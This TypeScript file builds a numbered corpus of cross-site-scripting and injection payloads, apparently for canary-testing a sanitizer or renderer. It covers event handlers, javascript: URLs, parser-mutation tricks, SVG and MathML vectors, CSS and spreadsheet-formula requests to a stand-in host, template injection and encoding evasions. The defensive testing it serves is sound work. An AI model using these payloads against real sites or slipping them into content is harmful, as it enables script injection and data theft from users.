// What could run if a text were ever taken for markup or code: of our own making, by class. `RUN` stands for the call that
// tells the canary which of them ran; `AWAY` for an address that it may be seen asking for.

export type PayloadClass = 'event handler' | 'URL' | 'mutation' | 'SVG' | 'MathML' | 'CSS' | 'template' | 'encoding'

export interface Payload {
  readonly id: number
  readonly class: PayloadClass
  readonly text: string
}

const each = (places: readonly string[], make: (place: string) => string): string[] => places.map(make)

/** Elements that tell of themselves without being touched, and those that a reader or our provoking touches. */
const handlers: string[] = [
  '<img src=x onerror=RUN>', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=RUN>', '<audio src=x onerror=RUN></audio>',
  '<video src=x onerror=RUN></video>', '<video><source src=x onerror=RUN></video>', '<object data=x onerror=RUN></object>',
  '<body onload=RUN>', '<iframe srcdoc="<p>x</p>" onload=RUN></iframe>', '<style onload=RUN>p{}</style>', '<link rel=stylesheet href=x onerror=RUN>',
  '<script>RUN</script>', '<script src=x onerror=RUN></script>', '<details open ontoggle=RUN><summary>x</summary></details>',
  '<input autofocus onfocus=RUN>', '<textarea autofocus onfocus=RUN></textarea>', '<select autofocus onfocus=RUN></select>',
  '<marquee onstart=RUN>x</marquee>', '<img/src=x/onerror=RUN>', '<IMG SRC=x ONERROR=RUN>', '<img src=x onerror  =  RUN>', '<img src=x\fonerror=RUN>',
  ...each(['click', 'mouseover', 'mouseenter', 'mousedown', 'mouseup', 'mousemove', 'pointerdown', 'pointerover', 'dblclick', 'contextmenu', 'wheel', 'keydown', 'keyup', 'keypress', 'input', 'change', 'copy', 'cut', 'paste', 'dragstart', 'drop', 'touchstart', 'focus', 'blur', 'focusin', 'animationstart', 'animationend', 'transitionend', 'scroll', 'auxclick', 'beforeinput', 'selectstart'],
    event => `<p tabindex=0 on${event}=RUN>touch</p>`),
  ...each(['b', 'a', 'button', 'custom-thing', 'details', 'label', 'table', 'xmp', 'listing', 'dialog open', 'fieldset', 'map'],
    tag => `<${tag} onclick=RUN>press</${tag.split(' ')[0]!}>`),
  '<form onsubmit=RUN><button>send</button></form>', '<form oninput=RUN onreset=RUN><input><button type=reset>x</button></form>',
  '<p onclick="RUN" onclick="void 0">twice</p>', '<div hidden onclick=RUN></div>', '<p popover onbeforetoggle=RUN>x</p>'
]

const schemes = ['javascript:RUN', 'JaVaScRiPt:RUN', ' javascript:RUN', 'java\nscript:RUN', 'java\tscript:RUN', 'javascript&colon;RUN', '&#106;avascript:RUN', 'javascript://%0aRUN', 'javascript:/*x*/RUN']
const urls: string[] = [
  ...each(schemes, address => `<a href="${address}">go</a>`),
  ...each(schemes.slice(0, 5), address => `[go](${address})`),
  '<area href=javascript:RUN>', '<form action=javascript:RUN><button>go</button></form>', '<button form=f formaction=javascript:RUN>go</button><form id=f></form>',
  '<iframe src=javascript:parent.RUN></iframe>', '<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>', '<embed src=javascript:RUN>',
  '<object data=javascript:RUN></object>', '<base href=javascript:RUN//><a href=#>go</a>', '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<img src=AWAY>', '<img srcset="AWAY 2x">', '<link rel=stylesheet href=AWAY>', '<link rel=preload as=image href=AWAY>', '<script src=AWAY></script>',
  '<iframe src=AWAY></iframe>', '<video poster=AWAY></video>', '<audio src=AWAY></audio>', '<input type=image src=AWAY>', '<body background=AWAY>',
  '![x](AWAY)', '<AWAY>', '[x]: AWAY "t"\n![x]', '<a ping=AWAY href=#x>go</a>', '<picture><source srcset=AWAY><img></picture>', '<track src=AWAY>', '<object data=AWAY></object>'
]

/** Trees that read one way and are written another, so that what was harmless before is not after. */
const mutations: string[] = each([
  '<noscript><p title="</noscript>PAYLOAD">', '<p title="`>PAYLOAD', '<table><td>PAYLOAD', '<select><option>PAYLOAD', '<form><form>PAYLOAD',
  '<p><table><a>PAYLOAD</table>', '<!--><!-- -->PAYLOAD', '<!-- --!>PAYLOAD', '<![CDATA[>PAYLOAD]]>', '<?x >PAYLOAD', '</p/>PAYLOAD',
  '<a><b></a>PAYLOAD</b>', '<textarea></textarea>PAYLOAD', '<title></title>PAYLOAD', '<style></style>PAYLOAD', '<xmp></xmp>PAYLOAD',
  '<template>PAYLOAD</template>PAYLOAD', '<frameset>PAYLOAD', '<p id="x"x=">">PAYLOAD', '"><p>PAYLOAD', `'><p>PAYLOAD`, '--><p>PAYLOAD', '<p a=\'"\'>PAYLOAD'
], around => around.replaceAll('PAYLOAD', '<img src=x onerror=RUN>'))

const drawings: string[] = [
  '<svg onload=RUN></svg>', '<svg><script>RUN</script></svg>', '<svg><script href=AWAY></script></svg>', '<svg><script xlink:href="data:,RUN"></script></svg>',
  '<svg><image href=x onerror=RUN></image></svg>', '<svg><image href=AWAY></image></svg>', '<svg><use href="AWAY#x"></use></svg>', '<svg><feImage href=AWAY></feImage></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.parent.RUN</script>"></iframe></foreignObject></svg>',
  '<svg><a href=javascript:RUN><text y=9>go</text></a></svg>', '<svg><a xlink:href=javascript:RUN><circle r=9 /></a></svg>', '<svg><animate onbegin=RUN attributeName=x dur=1s /></svg>',
  '<svg><set onbegin=RUN attributeName=x to=1 /></svg>', '<svg><animateTransform onbegin=RUN attributeName=transform dur=1s /></svg>', '<svg><animate attributeName=href values=javascript:RUN></svg>',
  '<svg><a><animate attributeName=href to=javascript:RUN begin=0s /><text y=9>go</text></a></svg>', '<svg><style>@import "AWAY";</style></svg>', '<svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>', '<svg><p><img src=x onerror=RUN>', '<svg><style><img src=x onerror=RUN></style></svg>', '<svg><rect width=9 height=9 onclick=RUN /></svg>',
  '<svg><path fill="url(AWAY#x)" d="M0 0h9v9z"/></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>'
]

const formulas: string[] = [
  '<math href=javascript:RUN>x</math>', '<math><mi href=javascript:RUN>x</mi></math>', '<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>', '<math><mi><img src=x onerror=RUN></mi></math>', '<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>',
  '<math><mglyph><style><img src=x onerror=RUN></style></mglyph></math>', '<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>RUN</script></annotation-xml></semantics></math>', '<math onclick=RUN><mn>1</mn></math>',
  '<math><mrow onmouseover=RUN><mn>2</mn></mrow></math>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>', '<math><p><img src=x onerror=RUN></p></math>', '<math><mstyle onclick=RUN>y</mstyle></math>', '<math><img src=x onerror=RUN></math>'
]

const styles: string[] = [
  '<style>@import url(AWAY);</style>', '<style>@import "AWAY";</style>', '<style>p{background:url(AWAY)}</style><p>x</p>', '<p style="background:url(AWAY)">x</p>', '<p style="background-image:image-set(url(AWAY) 1x)">x</p>',
  '<p style="list-style:url(AWAY);display:list-item">x</p>', '<p style="border-image:url(AWAY) 1;border:9px solid">x</p>', '<p style="cursor:url(AWAY),auto">x</p>', '<p style="content:url(AWAY)">x</p>',
  '<p style="mask-image:url(AWAY)">x</p>', '<p style="shape-outside:url(AWAY);float:left">x</p>', '<p style="filter:url(AWAY#x)">x</p>', '<style>@font-face{font-family:a;src:url(AWAY)}p{font-family:a}</style><p>x</p>',
  '<style>input[value^=a]{background:url(AWAY)}</style><input value=abc>', '<style>:root{--x:url(AWAY)}b{background:var(--x)}</style><b>x</b>', '<style>@keyframes k{}p{animation:k 1ms}</style><p onanimationstart=RUN>x</p>',
  '<p style="width:expression(RUN)">x</p>', '<p style="behavior:url(AWAY)">x</p>', '<p style="-moz-binding:url(AWAY)">x</p>', '<style>@media print{p{background:url(AWAY)}}</style><p>x</p>', '<style>li{list-style-image:url(AWAY)}</style><ul><li>x</li></ul>',
  '<style>q:before{content:url(AWAY)}</style><q>x</q>', '</style><img src=x onerror=RUN>', '<p style="transition:opacity 1ms;opacity:.5" ontransitionend=RUN>x</p>'
]

const templates: string[] = [
  '${RUN}', '${(()=>RUN)()}', '`${RUN}`', '${[].constructor.constructor("RUN")()}', '${"".sub.constructor("RUN")()}', '${globalThis.eval("RUN")}', '${Reflect.construct(Function,["RUN"])()}', '${setTimeout("RUN")}',
  '{{constructor.constructor("RUN")()}}', '{{$on.constructor("RUN")()}}', '<%= RUN %>', '#{RUN}', '{% RUN %}', '{{{RUN}}}', '[[${RUN}]]', '*{RUN}', '@{RUN}', '{{= RUN }}', '<p v-html="RUN">x</p>', '<p ng-init="RUN" ng-app>x</p>', '<p x-data x-init="RUN">x</p>', '=RUN', '+RUN', '@SUM(RUN)', '=HYPERLINK("AWAY","x")', '=WEBSERVICE("AWAY")'
]

const encoded = '<img src=x onerror=RUN>'
const encodings: string[] = [
  encoded.replaceAll('<', '&lt;'), encoded.replaceAll('<', '&#60;'), encoded.replaceAll('<', '&#x3c;'), encoded.replaceAll('<', '&#0000060'), encoded.replaceAll('<', '&LT;'), encoded.replaceAll('<', '\\u003c'), encoded.replaceAll('<', '\\x3c'),
  encoded.replaceAll('<', '%3C'), encoded.replaceAll('<', '%253C'), encoded.replaceAll('<', '\uff1c'), encoded.replaceAll('<', '\u2039'), encoded.replaceAll('<', '<\u200b'), encoded.replaceAll('on', 'o\u00adn'), `\u202e${encoded}`, `\ufeff${encoded}`,
  encoded.replace('onerror', '\u0000onerror'), encoded.replace('RUN', '&#82;UN').replace('&#82;UN', 'RUN&#59;'), encoded.replace('src=x', 'src=&#120;'), '+ADw-img src=x onerror=RUN+AD4-', '\u001b$B<img src=x onerror=RUN>\u001b(B', '`<img src=x onerror=RUN>`', '```html\n<img src=x onerror=RUN>\n```', '\\<img src=x onerror=RUN\\>', '&amp;lt;img src=x onerror=RUN&amp;gt;', '<img src=x onerror=\u2028RUN>', '<img src=x onerror="&#x52;UN;RUN">',
  // A bare address takes along whatever stands before the next bracket.
  'http://a.invalid/<img src=x onerror=RUN//>', 'www.a.invalid/\\<img src=x onerror=RUN//>'
]

const classes: Readonly<Record<PayloadClass, readonly string[]>> = {
  'event handler': handlers, URL: urls, mutation: mutations, SVG: drawings, MathML: formulas, CSS: styles, template: templates, encoding: encodings
}

/** Every payload, with the call and the address that give it away. */
export const payloads: readonly Payload[] = Object.entries(classes)
  .flatMap(([name, texts]) => texts.map(text => ({ class: name as PayloadClass, text })))
  .map(({ class: name, text }, id) => ({
    id, class: name, text: text.replaceAll('RUN', `ran(${id})`).replaceAll('AWAY', `http://canary.invalid/${id}`)
  }))

/** A payload as a field of one line holds it. */
export const payloadLine = ({ text }: Payload): string => text.replaceAll(/\s/g, ' ').replaceAll('\0', '')
export const payloadLines: readonly string[] = payloads.map(payloadLine)

/** Which payloads can be read in a text: their calls and addresses. */
export const payloadsIn = (text: string): ReadonlySet<number> =>
  new Set([...text.matchAll(/ran\((\d+)\)|canary\.invalid\/(\d+)/g)].map(([, call, address]) => Number(call ?? address)))
